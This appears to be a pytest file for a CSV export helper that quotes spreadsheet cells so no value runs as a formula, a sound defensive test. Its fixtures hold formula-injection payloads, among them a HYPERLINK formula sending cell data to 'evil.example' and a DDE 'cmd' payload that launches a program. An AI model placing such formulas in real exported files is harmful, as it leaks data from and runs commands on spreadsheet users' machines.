"""review_queue.csv is opened by stewards in spreadsheets: no cell may run as a formula."""

import csv

import polars as pl
import pytest

from whiteglove.safe_csv import csv_for_people, spreadsheet_safe

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A2,"ver ficha")',
    "+34 612 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals sign
]
HARMLESS = ["María García", "ana@example.com", "O'Brien", " =not first", "1+1", "", None]


@pytest.mark.parametrize("value", DANGEROUS)
def test_cells_that_could_start_a_formula_are_quoted(value):
    safe = spreadsheet_safe(pl.DataFrame({"name": [value]}))["name"].item()
    assert safe == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_left_alone(value):
    frame = pl.DataFrame({"name": [value]}, schema={"name": pl.String})
    assert spreadsheet_safe(frame)["name"].item() == value


def test_numbers_stay_numbers_and_names_are_neutralized_too():
    frame = pl.DataFrame({"=cmd": ["ok"], "amount": [-12.5], "count": [-3]})
    safe = spreadsheet_safe(frame)
    assert safe.columns == ["'=cmd", "amount", "count"]
    assert safe.schema["amount"] == pl.Float64 and safe["amount"].item() == -12.5


def test_column_names_that_look_like_patterns_are_handled_as_names():
    frame = pl.DataFrame({"*": ["=1"], "^a.*$": ["=2"], "a": ["x"]})
    assert spreadsheet_safe(frame).rows() == [("'=1", "'=2", "x")]


def test_the_written_file_is_safe_when_read_back_as_a_spreadsheet_would(tmp_path):
    frame = pl.DataFrame(
        {
            "record_l": ["crm:C1", "crm:C2"],
            "name_l": ['=HYPERLINK("http://evil")', 'Ana "la" grande\nRuiz'],
            "reasons": [["=cmd|' /C calc'!A0", "ok"], []],
            "match_probability": [0.71, 0.55],
        }
    )
    path = tmp_path / "review_queue.csv"
    path.write_bytes(csv_for_people(frame))

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for Excel
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [v for row in rows for v in row.values()]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r\n"]
    assert rows[0]["name_l"] == '\'=HYPERLINK("http://evil")'
    assert rows[1]["name_l"] == 'Ana "la" grande\nRuiz'  # quoting keeps it one cell
    assert rows[0]["reasons"] == "'=cmd|' /C calc'!A0; ok"
    assert rows[0]["match_probability"] == "0.71"


def test_phones_are_readable_without_an_apostrophe_and_never_a_formula(tmp_path):
    frame = pl.DataFrame(
        {"phone_l": ["+34612345678", "+441632960961", None], "name_l": ["=1+2", "Ana", "+x"]}
    )
    path = tmp_path / "queue.csv"
    path.write_bytes(csv_for_people(frame, phones=("phone_l",), first_line="# decide here"))
    with path.open(encoding="utf-8-sig", newline="") as fh:
        assert fh.readline() == "# decide here\n"
        rows = list(csv.DictReader(fh))
    assert [r["phone_l"] for r in rows] == ["(+34) 612 34 56 78", "(+44) 1632 960961", ""]
    assert [r["name_l"] for r in rows] == ["'=1+2", "Ana", "'+x"]  # other cells still quoted
    with pytest.raises(ValueError):
        csv_for_people(frame, first_line="# a, b")
